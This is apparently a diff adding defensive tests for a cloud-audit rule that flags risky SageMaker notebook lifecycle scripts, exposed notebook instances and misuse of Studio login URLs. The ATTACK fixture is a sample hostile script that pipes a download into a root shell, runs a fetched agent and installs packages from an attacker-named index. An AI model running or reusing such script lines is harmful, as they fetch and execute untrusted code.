@@ -1,0 +1,151 @@
+import { describe, expect, it } from 'vitest';
+import { replayEvents } from '../../../bridge/replay.js';
+import { RulesConfig } from '../../../core/rules/engine.js';
+import { NormalizedEvent } from '../../../core/schema/index.js';
+import { ctRecord, normOne } from './helpers.js';
+
+/**
+ * The notebook as a workbench (platform.notebook_exposure): CloudTrail records of notebook instances, lifecycle
+ * configurations and Studio login URLs, request fields as the SageMaker API reference names them (lowerCamel in
+ * CloudTrail): lifecycle scripts are base64 in `onCreate` / `onStart[].content` and `studioLifecycleConfigContent`.
+ */
+const RULE = 'platform.notebook_exposure';
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+const ACCOUNT = '111122223333';
+let n = 0;
+const rec = (op: string, params: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
+  NormalizedEvent.parse(normOne(ctRecord(op, params, { eventID: `nb-${++n}`, eventTime: `2026-11-25T10:${String(n % 60).padStart(2, '0')}:00Z`, ...extra })));
+const who = (role: string, session: string) => ({
+  userIdentity: {
+    type: 'AssumedRole', principalId: `AROAEXAMPLE:${session}`, arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${role}/${session}`, accountId: ACCOUNT,
+    sessionContext: { sessionIssuer: { type: 'Role', principalId: 'AROAEXAMPLE', arn: `arn:aws:iam::${ACCOUNT}:role/${role}`, accountId: ACCOUNT, userName: role } },
+  },
+});
+const alertsOf = (evs: NormalizedEvent[], rules: Record<string, unknown> = {}) => replayEvents(evs, { rules: RulesConfig.parse(rules) }).alerts.filter((a) => a.rule_id === RULE);
+
+const ATTACK = [
+  '#!/bin/bash',
+  'set -e',
+  'export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
+  'curl -fsSL https://paste.example.net/raw/a1b2 \\',
+  '  | sudo -E bash',
+  'aws s3 cp s3://scratch-share-9931/tools/agent.sh /tmp/agent.sh && bash /tmp/agent.sh',
+  'pip install --extra-index-url https://pypi.attacker.example/simple jupyter-helpers',
+].join('\n');
+const TEAM = [
+  '#!/bin/bash',
+  'set -e',
+  'sudo -u ec2-user -i <<EOF',
+  'aws s3 cp s3://ml-platform-code/lifecycle/autostop.py /home/ec2-user/autostop.py',
+  'pip install --upgrade pandas',
+  'EOF',
+].join('\n');
+const lifecycle = (name: string, onStart: string, extra: Record<string, unknown> = {}) =>
+  rec('CreateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: name, onStart: [{ content: b64(onStart) }] }, {
+    responseElements: { notebookInstanceLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance-lifecycle-config/${name}` }, ...extra,
+  });
+
+describe('notebook lifecycle scripts', () => {
+  it('are read for what they download, pipe into a shell and install; a script holding a credential is hidden whole in raw', () => {
+    const ev = lifecycle('lc-tools', ATTACK);
+    expect(ev.details).toMatchObject({
+      lifecycle_scripts: true, script_hooks: ['on_start'],
+      script_code_uris: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'],
+      script_piped_to_shell: ['https://paste.example.net/raw/a1b2'],
+      script_package_sources: ['https://pypi.attacker.example/simple'],
+      script_secret_in: ['on_start'],
+    });
+    const raw = JSON.stringify(ev.raw);
+    expect(raw).not.toContain(b64(ATTACK));
+    expect(raw).not.toContain('wJalrXUtnFEMI');
+    expect((ev.raw as { requestParameters: { onStart: Array<{ content: string }> } }).requestParameters.onStart[0]!.content).toBe('[redacted]');
+    // A script with no credential is kept as sent: the analyst can read it.
+    const team = lifecycle('lc-team', TEAM);
+    expect((team.raw as { requestParameters: { onStart: Array<{ content: string }> } }).requestParameters.onStart[0]!.content).toBe(b64(TEAM));
+    expect(team.details?.script_secret_in).toBeUndefined();
+  });
+
+  it('a Studio lifecycle configuration likewise (studioLifecycleConfigContent)', () => {
+    const ev = rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: 'jl-setup', studioLifecycleConfigContent: b64(ATTACK), studioLifecycleConfigAppType: 'JupyterLab' }, {
+      responseElements: { studioLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/jl-setup` },
+    });
+    expect(ev.details).toMatchObject({ script_hooks: ['studio'], script_piped_to_shell: ['https://paste.example.net/raw/a1b2'], script_secret_in: ['studio'] });
+    expect(JSON.stringify(ev.raw)).not.toContain('wJalrXUtnFEMI');
+    expect((ev.raw as { requestParameters: Record<string, unknown> }).requestParameters.studioLifecycleConfigContent).toBe('[redacted]');
+    const [a, ...more] = alertsOf([ev]);
+    expect(more).toEqual([]);
+    expect(a!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', lifecycle_config: 'jl-setup', piped_to_shell: ['https://paste.example.net/raw/a1b2'] });
+  });
+
+  it('alert on a download piped into a shell and a foreign package index by default; other downloads once trusted_code_locations is set', () => {
+    const [a, ...more] = alertsOf([lifecycle('lc-tools', ATTACK)]);
+    expect(more).toEqual([]);
+    expect(a!.entity).toMatchObject({ type: 'notebook_instance_lifecycle_config', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance-lifecycle-config/lc-tools` });
+    expect(a!.details).toMatchObject({ piped_to_shell: ['https://paste.example.net/raw/a1b2'], package_sources: ['https://pypi.attacker.example/simple'], code_uris: ['https://paste.example.net/raw/a1b2'] });
+    const rules = { [RULE]: { trusted_code_locations: ['s3://ml-platform-code/*'] } };
+    expect(alertsOf([lifecycle('lc-tools', ATTACK)], rules)[0]!.details?.code_uris).toEqual(['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh']);
+    // The team's script from its trusted bucket, PyPI: nothing, with or without the list.
+    expect(alertsOf([lifecycle('lc-team', TEAM)], rules)).toEqual([]);
+    expect(alertsOf([lifecycle('lc-team', TEAM)])).toEqual([]);
+    // Another account's SageMaker SDK bucket is untrusted whatever the list says.
+    expect(alertsOf([lifecycle('lc-x', 'aws s3 cp s3://sagemaker-us-east-1-999988887777/setup.sh /tmp/s.sh\nbash /tmp/s.sh')])[0]!.details?.code_uris).toEqual(['s3://sagemaker-us-east-1-999988887777/setup.sh']);
+    // An upload (local source) is no download.
+    expect(lifecycle('lc-y', 'aws s3 cp /home/ec2-user/SageMaker s3://ml-backups/alice --recursive').details?.script_code_uris).toBeUndefined();
+  });
+});
+
+describe('notebook instances', () => {
+  const create = (name: string, extra: Record<string, unknown>) =>
+    rec('CreateNotebookInstance', { notebookInstanceName: name, instanceType: 'ml.t3.medium', roleArn: `arn:aws:iam::${ACCOUNT}:role/NotebookExec`, ...extra }, {
+      responseElements: { notebookInstanceArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance/${name}` },
+    });
+  it('created with root access and no subnet (direct internet access) alert; in a VPC subnet, or without root, not', () => {
+    const open = create('nb-open', { directInternetAccess: 'Enabled', rootAccess: 'Enabled', lifecycleConfigName: 'lc-tools' });
+    expect(open.details).toMatchObject({ role_arn: `arn:aws:iam::${ACCOUNT}:role/NotebookExec`, lifecycle_config_name: 'lc-tools', root_access: 'Enabled' });
+    const [a, ...more] = alertsOf([open]);
+    expect(more).toEqual([]);
+    expect(a!.details).toMatchObject({ finding: 'root_internet_no_vpc', notebook_instance: 'nb-open', lifecycle_config_name: 'lc-tools' });
+    // The API's defaults (RootAccess and DirectInternetAccess Enabled) are the same exposure.
+    expect(alertsOf([create('nb-default', {})])).toHaveLength(1);
+    expect(alertsOf([create('nb-vpc', { subnetId: 'subnet-0abc', securityGroupIds: ['sg-1'], directInternetAccess: 'Disabled', rootAccess: 'Enabled' })])).toEqual([]);
+    expect(alertsOf([create('nb-noroot', { rootAccess: 'Disabled' })])).toEqual([]);
+    expect(alertsOf([create('sandbox-1', {})], { [RULE]: { exempt_notebooks: ['sandbox-*'] } })).toEqual([]);
+  });
+  it('root access turned on later for an instance created outside a VPC alerts', () => {
+    const made = create('nb-late', { rootAccess: 'Disabled' });
+    const update = rec('UpdateNotebookInstance', { notebookInstanceName: 'nb-late', rootAccess: 'Enabled', roleArn: `arn:aws:iam::${ACCOUNT}:role/Admin` });
+    expect(update.details).toMatchObject({ role_arn: `arn:aws:iam::${ACCOUNT}:role/Admin` });
+    expect(alertsOf([made, update]).map((a) => a.evidence)).toEqual([[update.id]]);
+  });
+});
+
+describe('presigned login URLs', () => {
+  const studio = (caller: ReturnType<typeof who>, profile: string, ip = '198.51.100.7') =>
+    rec('CreatePresignedDomainUrl', { domainId: 'd-abc123', userProfileName: profile, sessionExpirationDurationInSeconds: 43200, expiresInSeconds: 300 }, { ...caller, sourceIPAddress: ip });
+  it("a user opening their own Studio every morning is routine; another identity opening their profile alerts, once", () => {
+    const days = [0, 1, 2].map(() => studio(who('DataScientist', 'bob@corp.example'), 'bob'));
+    expect(alertsOf(days)).toEqual([]);
+    const other = studio(who('DataScientist', 'alice@corp.example'), 'bob', '203.0.113.66');
+    const again = studio(who('DataScientist', 'alice@corp.example'), 'bob', '203.0.113.66');
+    const [a, ...more] = alertsOf([...days, other, again]);
+    expect(more).toEqual([]);
+    expect(a!.entity).toMatchObject({ type: 'user_profile', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:user-profile/d-abc123/bob` });
+    expect(a!.details).toMatchObject({ finding: 'opened_for_another_user', identity: 'alice@corp.example', user_profile: 'bob', known_openers: ['bob@corp.example'], ip: '203.0.113.66' });
+  });
+  it("a launcher portal's role that opens every profile is learned; exempt callers are not judged", () => {
+    const portal = who('StudioLauncher', 'launcher');
+    expect(alertsOf([studio(portal, 'carol'), studio(portal, 'carol'), studio(who('DataScientist', 'carol'), 'carol')])).toEqual([]);
+    const evs = [studio(who('DataScientist', 'dan'), 'dan'), studio(who('Admin', 'eve'), 'dan')];
+    expect(alertsOf(evs)).toHaveLength(1);
+    expect(alertsOf(evs, { [RULE]: { exempt: ['eve'] } })).toEqual([]);
+    expect(alertsOf(evs, { [RULE]: { exempt: [`arn:aws:iam::${ACCOUNT}:role/Admin`] } })).toEqual([]);
+    expect(alertsOf(evs, { [RULE]: { exempt: [`arn:aws:iam::${ACCOUNT}:role/Other`] } })).toHaveLength(1);
+  });
+  it("the login URL's token is hidden in raw", () => {
+    const ev = rec('CreatePresignedNotebookInstanceUrl', { notebookInstanceName: 'nb-team', sessionExpirationDurationInSeconds: 1800 }, {
+      responseElements: { authorizedUrl: 'https://nb-team.notebook.us-east-1.sagemaker.aws?authToken=eyJhbGciOiJIUzI1NiJ9.c2VjcmV0' },
+    });
+    expect(JSON.stringify(ev.raw)).not.toContain('eyJhbGciOiJIUzI1NiJ9');
+    expect((ev.raw as { responseElements: { authorizedUrl: string } }).responseElements.authorizedUrl).toBe('https://nb-team.notebook.us-east-1.sagemaker.aws?authToken=[redacted]');
+  });
+});
